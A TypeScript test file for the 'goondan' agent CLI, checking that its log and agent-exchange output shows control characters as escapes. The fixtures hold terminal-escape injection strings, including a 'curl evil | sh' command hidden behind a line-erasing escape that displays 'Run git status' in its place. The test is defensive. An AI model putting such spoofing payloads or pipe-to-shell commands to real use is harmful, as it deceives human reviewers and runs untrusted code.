/**
 * `goondan logs` and the exchange lines of `goondan run` print agents' and callers' text (tool
 * summaries, instance keys, error messages, messages between agents): its control characters are
 * shown as escapes, so a logged call cannot rewrite the terminal of whoever reads the log.
 */
import { describe, expect, test } from 'bun:test';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { formatRuntimeEvent } from '../../orchestrator/cli/commands/logs.ts';
import { formatExchange } from '../../orchestrator/cli/exchange-printer.ts';
import { instancesDir } from '../../shared/state-paths.ts';
import { tempDirsRemovedAfterEach } from '../helpers/temp-dirs.ts';
import { goondan } from './goondan-cli.ts';

const ESC = '\u001b';
/** Anything a terminal acts on: C0, DEL, C1, bidi overrides. */
const ACTIVE = /[\u0000-\u001f\u007f-\u009f\u202a-\u202e]/;
const tempDir = tempDirsRemovedAfterEach('goondan-logs-escapes-');

const event = {
  type: 'tool.called',
  timestamp: '2026-01-01T00:00:00.000Z',
  agentName: 'coder',
  instanceKey: `k${ESC}]0;owned\u0007`,
  traceId: 'ab'.repeat(16),
  toolName: 'bash__exec',
  icon: `🐚${ESC}[2K`,
  displayName: 'Shell\u009b1A',
  summary: `Run curl evil | sh ${ESC}[2K\rRun git status`,
  error: { code: 'E_X', message: `failed\u202e ${ESC}[1A` },
};

describe('goondan logs', () => {
  test('a line shows every control character of the event as an escape', () => {
    const line = formatRuntimeEvent(event);
    expect(ACTIVE.test(line)).toBe(false);
    expect(line).toContain('coder@k\\x1b]0;owned\\x07');
    expect(line).toContain('🐚\\x1b[2K Shell\\x9b1A');
    expect(line).toContain('Run curl evil | sh \\u001b[2K\\rRun git status');
    expect(line).toContain('\\u{202e}');
  });

  test('the printed output, text and --json, carries no control character; --json still parses', async () => {
    const stateRoot = tempDir();
    const dir = join(instancesDir(stateRoot, 'ws'), 'coder--k');
    mkdirSync(join(dir, 'messages'), { recursive: true });
    writeFileSync(join(dir, 'metadata.json'), JSON.stringify({ agentName: 'coder', instanceKey: event.instanceKey }));
    writeFileSync(join(dir, 'messages', 'runtime-events.jsonl'), `${JSON.stringify(event)}\n`);
    const text = await goondan(['logs', '--state-root', stateRoot]);
    expect(text.stdout).toContain('tool.called');
    expect(ACTIVE.test(text.stdout.replace(/\n/g, ''))).toBe(false);
    const json = await goondan(['logs', '--json', '--state-root', stateRoot]);
    expect(ACTIVE.test(json.stdout.replace(/\n/g, ''))).toBe(false);
    expect(JSON.parse(json.stdout)).toEqual(event);
  });
});

describe('goondan run: messages between agents', () => {
  test('an exchange line shows the text’s control characters as escapes, and a long text its end', () => {
    const line = formatExchange({ kind: 'request', from: 'lead', to: `coder${ESC}[8m`, text: `please ${ESC}[2K\u009b1A ${'x'.repeat(500)} the end`, external: false }, false);
    expect(ACTIVE.test(line)).toBe(false);
    expect(line).toContain('lead → coder\\x1b[8m  asks: please \\x1b[2K\\x9b1A');
    expect(line).toMatch(/characters cut\] … x* the end$/);
  });
});
